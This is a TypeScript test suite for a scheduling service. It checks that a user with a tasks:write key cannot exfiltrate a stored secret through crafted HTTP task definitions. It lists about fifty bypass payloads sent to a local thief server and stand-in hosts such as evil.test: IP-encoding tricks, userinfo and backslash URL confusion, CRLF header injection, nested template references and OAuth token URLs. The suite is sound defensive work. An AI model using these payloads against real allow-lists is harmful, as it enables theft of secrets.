import { httpTarget } from "@scheduling/calls/testing/CallTargets"
import { assert, describe, layer } from "@effect/vitest"
import { Effect } from "effect"
import { ask, createKey } from "../support/http.ts"
import { runningNodeLayer } from "../support/TestApp.ts"
import { setUpSecrets } from "./setUpSecrets.ts"

const value = "stolen-4711-secret"
const reference = "{{ secrets.LOOT }}"

/** Creates an attacker with a `tasks:write` key and a server on another port of this machine. */
const fixture = Effect.gen(function* () {
  const { member, putSecret, target } = yield* setUpSecrets
  const arrived: Array<string> = []
  const thiefPort = yield* httpTarget((request, response) => {
    let body = ""
    request.on("data", (chunk) => (body += chunk))
    request.on("end", () => {
      arrived.push([request.url, JSON.stringify(request.rawHeaders), body].join("\n"))
      response.end("thanks")
    })
  })
  yield* putSecret("LOOT", {
    value,
    allowed_hosts: [target.origin, "api.example.com", "*.example.org"]
  })
  // This secret's value is a reference, which must not be substituted a second time.
  yield* putSecret("NESTED", {
    value: `x${reference}`,
    allowed_hosts: [`http://127.0.0.1:${thiefPort}`]
  })
  const key = yield* createKey(member, { scopes: ["tasks:write", "tasks:read", "executions:read"] })
  return { arrived, key: key.key, member, target, thiefPort }
})

type Call = Readonly<Record<string, unknown>>

/**
 * The attacker's attempts. P is the port of the attacker's server, and A is the allowed target's
 * port.
 */
const tries: ReadonlyArray<readonly [string, (ports: { P: number; A: number }) => Call]> = [
  ["another port", ({ P }) => ({ url: `http://127.0.0.1:${P}/${reference}` })],
  ["another name of the machine", ({ P }) => ({ url: `http://localhost:${P}/${reference}` })],
  ["the allowed port by another name", ({ A }) => ({ url: `http://localhost:${A}/${reference}` })],
  ["a decimal host", ({ P }) => ({ url: `http://2130706433:${P}/${reference}` })],
  ["a hexadecimal host", ({ P }) => ({ url: `http://0x7f000001:${P}/${reference}` })],
  ["an octal host", ({ P }) => ({ url: `http://0177.0.0.1:${P}/${reference}` })],
  ["a short host", ({ P }) => ({ url: `http://127.1:${P}/${reference}` })],
  ["IPv6", ({ P }) => ({ url: `http://[::1]:${P}/${reference}` })],
  ["IPv4 in IPv6", ({ P }) => ({ url: `http://[::ffff:127.0.0.1]:${P}/${reference}` })],
  ["a trailing dot", ({ P }) => ({ url: `http://127.0.0.1.:${P}/${reference}` })],
  ["HTTPS to the allowed port", ({ A }) => ({ url: `https://127.0.0.1:${A}/${reference}` })],
  ["HTTP to a host for HTTPS", () => ({ url: `http://api.example.com/${reference}` })],
  [
    "another port of a host for HTTPS",
    () => ({ url: `https://api.example.com:8443/${reference}` })
  ],
  ["a longer name", () => ({ url: `https://api.example.com.evil.test/${reference}` })],
  ["a name that ends alike", () => ({ url: `https://evil-api.example.com/${reference}` })],
  ["the domain of a wildcard itself", () => ({ url: `https://example.org/${reference}` })],
  ["a name that ends like a wildcard", () => ({ url: `https://evilexample.org/${reference}` })],
  ["a wildcard as a part", () => ({ url: `https://a.example.org.evil.test/${reference}` })],
  [
    "a full stop of another script",
    () => ({ url: `https://api.example.com\u3002evil.test/${reference}` })
  ],
  ["the user part", ({ P }) => ({ url: `http://127.0.0.1:${P}@127.0.0.1/${reference}` })],
  [
    "a user part with the allowed host",
    ({ A, P }) => ({ url: `http://127.0.0.1:${A}@127.0.0.1:${P}/${reference}` })
  ],
  ["a secret as the user", ({ P }) => ({ url: `http://${reference}@127.0.0.1:${P}/` })],
  ["a secret as the host", () => ({ url: `http://${reference}/` })],
  ["a secret as a part of the host", () => ({ url: `http://${reference}.evil.test/` })],
  ["a secret as the port", () => ({ url: `http://127.0.0.1:${reference}/` })],
  ["a secret as the scheme", () => ({ url: `${reference}://127.0.0.1/` })],
  ["a backslash", ({ A, P }) => ({ url: `http://127.0.0.1:${P}\\@127.0.0.1:${A}/${reference}` })],
  [
    "a fragment before the host",
    ({ A, P }) => ({ url: `http://127.0.0.1:${P}#@127.0.0.1:${A}/${reference}` })
  ],
  ["a tab in the host", ({ P }) => ({ url: `http://127.0.0.\t1:${P}/${reference}` })],
  [
    "a line break in the URL",
    ({ A }) => ({ url: `http://127.0.0.1:${A}/\r\nhost: evil.test/${reference}` })
  ],
  ["a header", ({ P }) => ({ url: `http://127.0.0.1:${P}/`, headers: { "x-loot": reference } })],
  [
    "a Host header",
    ({ A }) => ({
      url: `http://127.0.0.1:${A}/`,
      headers: { host: "evil.test", "x-loot": reference }
    })
  ],
  ["a header name", ({ P }) => ({ url: `http://127.0.0.1:${P}/`, headers: { [reference]: "x" } })],
  [
    "a header with a line break",
    ({ P }) => ({ url: `http://127.0.0.1:${P}/`, headers: { "x-a": `1\r\nx-b: ${reference}` } })
  ],
  [
    "a proxy header",
    ({ A }) => ({ url: `http://127.0.0.1:${A}/`, headers: { "proxy-authorization": reference } })
  ],
  ["a body", ({ P }) => ({ url: `http://127.0.0.1:${P}/`, body: `{"loot":"${reference}"}` })],
  [
    "a form",
    ({ P }) => ({
      url: `http://127.0.0.1:${P}/`,
      body: `loot=${reference}`,
      headers: { "content-type": "application/x-www-form-urlencoded" }
    })
  ],
  [
    "a template in a template",
    ({ P }) => ({ url: `http://127.0.0.1:${P}/`, body: "{{ secrets.{{ secrets.LOOT }} }}" })
  ],
  [
    "a secret that holds a reference",
    ({ P }) => ({ url: `http://127.0.0.1:${P}/`, body: "{{ secrets.NESTED }}" })
  ],
  [
    "an input that holds a reference",
    ({ P }) => ({ url: `http://127.0.0.1:${P}/`, body: "{{ input }}" })
  ],
  [
    "a task name that holds a reference",
    ({ P }) => ({ url: `http://127.0.0.1:${P}/`, body: "{{ task.name }}" })
  ],
  [
    "another spelling of the name",
    ({ P }) => ({ url: `http://127.0.0.1:${P}/`, body: "{{ secrets.loot }}" })
  ],
  [
    "spaces in the reference",
    ({ P }) => ({ url: `http://127.0.0.1:${P}/`, body: "{{\n secrets.LOOT\t}}" })
  ],
  [
    "bearer auth",
    ({ P }) => ({ url: `http://127.0.0.1:${P}/`, auth: { kind: "bearer", token: reference } })
  ],
  [
    "basic auth",
    ({ P }) => ({
      url: `http://127.0.0.1:${P}/`,
      auth: { kind: "basic", username: "x", password: reference }
    })
  ],
  [
    "a user name of basic auth",
    ({ P }) => ({
      url: `http://127.0.0.1:${P}/`,
      auth: { kind: "basic", username: reference, password: "{{ secrets.NESTED }}" }
    })
  ],
  [
    "a token URL",
    ({ A, P }) => ({
      url: `http://127.0.0.1:${A}/`,
      auth: {
        kind: "oauth2_client_credentials",
        token_url: `http://127.0.0.1:${P}/`,
        client_id: "x",
        client_secret: reference
      }
    })
  ],
  [
    "a client id",
    ({ A, P }) => ({
      url: `http://127.0.0.1:${A}/`,
      auth: {
        kind: "oauth2_client_credentials",
        token_url: `http://127.0.0.1:${P}/`,
        client_id: reference,
        client_secret: "{{ secrets.NESTED }}"
      }
    })
  ],
  [
    "a callback",
    ({ A, P }) => ({
      url: `http://127.0.0.1:${A}/`,
      on_success: { url: `http://127.0.0.1:${P}/${reference}` }
    })
  ],
  [
    "a rule that guesses it",
    ({ A }) => ({ url: `http://127.0.0.1:${A}/`, body: `"${reference}"`, body_contains: "stolen" })
  ]
]

layer(runningNodeLayer(), { excludeTestServices: true })("a thief with tasks:write", (it) => {
  describe("gets no secret with", () => {
    it.effect.each(tries)("%s", ([, call]) =>
      Effect.gen(function* () {
        const { arrived, key, member, target, thiefPort } = yield* fixture
        const created = yield* ask("POST", `${member.workspace}/cron`, {
          token: key,
          body: {
            name: `name of ${reference}`,
            schedule: "0 0 1 1 *",
            ...call({ P: thiefPort, A: target.port })
          }
        })
        let seen = created.text
        if (created.status !== 422) {
          assert.strictEqual(created.status, 201, created.text)
          const started = yield* ask("POST", `${member.workspace}/cron/${created.body.id}/run`, {
            token: key,
            body: { input: { nested: reference } }
          })
          const ended = yield* ask(
            "GET",
            `${member.workspace}/executions/${started.body.id}?wait_seconds=30`,
            { token: key }
          )
          assert.include(["failed", "succeeded"], ended.body.status)
          // A rule is applied to the masked response.
          if (call({ P: 1, A: 1 })["body_contains"] !== undefined) {
            assert.strictEqual(ended.body.error.code, "response_rule")
          }
          seen += ended.text
        }
        assert.notInclude(seen, value)
        assert.notInclude(arrived.join("\n"), value)
      })
    )
  })
})
